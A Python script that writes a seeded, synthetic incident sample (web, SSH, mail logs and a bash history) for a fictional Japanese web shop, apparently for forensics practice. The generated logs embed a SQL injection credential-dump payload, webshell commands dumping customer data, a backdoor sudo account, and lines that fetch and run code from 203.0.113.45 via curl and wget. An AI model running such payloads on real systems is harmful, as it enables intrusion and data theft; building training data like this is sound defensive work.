#!/usr/bin/env python3
"""Writes the bundled sample incident (seeded, so the same bytes every time).

The story: shop.example.jp, a small Japanese web shop. On 2024-03-10 (JST) an
attacker scans the site, finds an SQL injection in the product page, logs in
to the admin panel, uploads an inert "webshell" and runs commands through it;
in parallel a brute-force on SSH succeeds and the web user starts sending
mail. The files are ours; every address is from documentation ranges.
Run: python3 samples/generate_incident.py
"""
import gzip
import os
import random
from datetime import datetime, timedelta, timezone

JST = timezone(timedelta(hours=9))
rng = random.Random(20240310)
ATTACKER = "203.0.113.45"
SSH_ATTACKER = "198.51.100.23"
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]
PAGES = ["/", "/products/view.php?id=%d", "/category/tea", "/category/sweets", "/static/css/site.css",
         "/static/js/app.js", "/static/img/logo.png", "/search.php?q=%E6%8A%B9%E8%8C%B6", "/cart.php"]
CLIENTS = ["192.0.2.%d" % i for i in range(10, 60)] + ["2001:db8::%x" % i for i in range(1, 12)]


def clf(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S %z")


def access_line(t, ip, method, target, status, size, ref="-", ua=None):
    ua = ua or rng.choice(AGENTS)
    return '%s - - [%s] "%s %s HTTP/1.1" %d %s "%s" "%s"\n' % (
        ip, clf(t), method, target, status, size if size else "-", ref, ua)


def background(start, hours, per_hour):
    out = []
    for i in range(int(hours * per_hour)):
        t = start + timedelta(seconds=i * 3600 / per_hour + rng.random())
        page = rng.choice(PAGES)
        if "%d" in page:
            page = page % rng.randint(100, 180)
        status = 200 if rng.random() > 0.04 else 404
        out.append((t, access_line(t, rng.choice(CLIENTS), "GET", page, status,
                                   rng.randint(800, 40000), "https://shop.example.jp/")))
    return out


def attack(start):
    ua_nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"
    ua_sqlmap = "sqlmap/1.8#stable (https://sqlmap.org)"
    out = []
    t = start
    for p in ["/.env", "/.git/config", "/wp-login.php", "/phpinfo.php", "/backup.sql", "/admin/",
              "/config.php~", "/server-status"]:
        t += timedelta(seconds=2)
        out.append((t, access_line(t, ATTACKER, "GET", p, 403 if p == "/admin/" else 404, 512, "-", ua_nikto)))
    t += timedelta(minutes=20)
    for n in range(1, 7):
        t += timedelta(seconds=5)
        q = ("/products/view.php?id=105%%20UNION%%20ALL%%20SELECT%%20NULL,CONCAT(login,0x3a,password),"
             "NULL%%20FROM%%20admin_users%%20LIMIT%%20%d,1--%%20-" % (n - 1))
        out.append((t, access_line(t, ATTACKER, "GET", q, 200, 21000 + n * 37, "-", ua_sqlmap)))
    t += timedelta(minutes=30)
    ua = AGENTS[0]
    out.append((t, access_line(t, ATTACKER, "POST", "/admin/login.php", 302, 0, "https://shop.example.jp/admin/", ua)))
    t += timedelta(seconds=40)
    out.append((t, access_line(t, ATTACKER, "POST", "/admin/upload.php", 200, 312, "https://shop.example.jp/admin/", ua)))
    for cmd in ["id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/var/www/html",
                "mysqldump%20shop%20customers%20%3E%20/tmp/.c.sql", "tar%20czf%20/var/www/html/uploads/img/c.tgz%20/tmp/.c.sql"]:
        t += timedelta(seconds=rng.randint(20, 90))
        out.append((t, access_line(t, ATTACKER, "POST", "/uploads/img/cache.php?c=" + cmd, 200, rng.randint(40, 3000), "-", ua)))
    t += timedelta(minutes=3)
    out.append((t, access_line(t, ATTACKER, "GET", "/uploads/img/c.tgz", 200, 4821733, "-", ua)))
    return out


def write_access_logs(base):
    day0 = datetime(2024, 3, 8, 0, 0, tzinfo=JST)
    days = []
    for d in range(3):
        lines = background(day0 + timedelta(days=d), 24, 40)
        if d == 2:
            lines += attack(day0 + timedelta(days=2, hours=1, minutes=12))
        lines.sort(key=lambda x: x[0])
        days.append("".join(l for _, l in lines))
    # Rotated set: oldest in .2.gz, then .1, then the live file.
    with gzip.GzipFile(os.path.join(base, "access.log.2.gz"), "wb", mtime=0) as f:
        f.write(days[0].encode())
    open(os.path.join(base, "access.log.1"), "w").write(days[1])
    open(os.path.join(base, "access.log"), "w").write(days[2])
    err = ("[Sun Mar 10 01:33:05.120044 2024] [php:warn] [pid 2211] [client %s:51122] PHP Warning:  "
           "mysqli_fetch_assoc() expects parameter 1 to be mysqli_result, bool given in "
           "/var/www/html/products/view.php on line 42\n" % ATTACKER)
    err += ("[Sun Mar 10 02:05:41.901311 2024] [core:error] [pid 2301] [client %s:51388] AH00037: "
            "Symbolic link not allowed or link target not accessible: /var/www/html/uploads/img/x\n" % ATTACKER)
    open(os.path.join(base, "error.log"), "w").write(err)


def ts(t):
    # rsyslog's high-precision format (RFC 3339): a year and an offset on
    # every line, so the sample reads the same whatever the files' mtimes.
    return t.replace(tzinfo=JST).isoformat(timespec="microseconds")


def write_auth(base):
    t = datetime(2024, 3, 10, 3, 0, 0)
    lines = []
    users = ["admin", "root", "test", "oracle", "deploy"]
    pid = 4100
    for i in range(60):
        t += timedelta(seconds=rng.randint(1, 4))
        pid += 1
        u = users[i % len(users)]
        if u in ("test", "oracle"):
            lines.append("%s web01 sshd[%d]: Invalid user %s from %s port %d\n" % (
                ts(t), pid, u, SSH_ATTACKER, 40000 + i))
            lines.append("%s web01 sshd[%d]: Failed password for invalid user %s from %s port %d ssh2\n" % (
                ts(t), pid, u, SSH_ATTACKER, 40000 + i))
        else:
            lines.append("%s web01 sshd[%d]: Failed password for %s from %s port %d ssh2\n" % (
                ts(t), pid, u, SSH_ATTACKER, 40000 + i))
    t += timedelta(seconds=3)
    lines.append("%s web01 sshd[%d]: Accepted password for deploy from %s port 40999 ssh2\n" % (
        ts(t), pid + 1, SSH_ATTACKER))
    lines.append("%s web01 sshd[%d]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)\n" % (
        ts(t), pid + 1))
    t += timedelta(minutes=2)
    lines.append("%s web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash sysupdate\n" % ts(t))
    lines.append("%s web01 useradd[%d]: new user: name=sysupdate, UID=1002, GID=1002, home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/0\n" % (ts(t), pid + 5))
    t += timedelta(minutes=1)
    lines.append("%s web01 usermod[%d]: add 'sysupdate' to group 'sudo'\n" % (ts(t), pid + 6))
    t += timedelta(minutes=4)
    lines.append("%s web01 CRON[%d]: (www-data) CMD (curl -s http://203.0.113.45/u.sh | sh)\n" % (ts(t), pid + 9))
    open(os.path.join(base, "auth.log"), "w").write("".join(lines))


def write_mail(base):
    t = datetime(2024, 3, 10, 4, 10, 0)
    lines = []
    for i in range(40):
        t += timedelta(seconds=rng.randint(1, 3))
        qid = "4F%03X%05X" % (i, rng.randint(0, 0xFFFFF))
        lines.append("%s web01 postfix/pickup[3101]: %s: uid=33 from=<www-data>\n" % (ts(t), qid))
        lines.append("%s web01 postfix/qmgr[1201]: %s: from=<www-data@shop.example.jp>, size=2211, nrcpt=25 (queue active)\n" % (ts(t), qid))
        lines.append("%s web01 postfix/smtp[3130]: %s: to=<user%d@example.com>, relay=mx.example.com[192.0.2.200]:25, delay=1.2, delays=0.1/0/0.5/0.6, dsn=2.0.0, status=sent (250 ok)\n" % (
            ts(t), qid, i))
    open(os.path.join(base, "mail.log"), "w").write("".join(lines))


def write_history(base):
    os.makedirs(base, exist_ok=True)
    cmds = ["#1710010000", "id", "#1710010012", "sudo -l", "#1710010030",
            "sudo useradd -m -s /bin/bash sysupdate", "#1710010100",
            "wget -q http://203.0.113.45/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k",
            "#1710010160", "history -c"]
    open(os.path.join(base, ".bash_history"), "w").write("\n".join(cmds) + "\n")


here = os.path.join(os.path.dirname(os.path.abspath(__file__)), "incident")
logs = os.path.join(here, "var", "log")
os.makedirs(os.path.join(logs, "apache2"), exist_ok=True)
write_access_logs(os.path.join(logs, "apache2"))
write_auth(logs)
write_mail(logs)
write_history(os.path.join(here, "home", "deploy"))
stamp = datetime(2024, 3, 11, 0, 0, tzinfo=JST).timestamp()
for root, _, files in os.walk(os.path.join(here, "var")):
    for f in files:
        os.utime(os.path.join(root, f), (stamp, stamp))
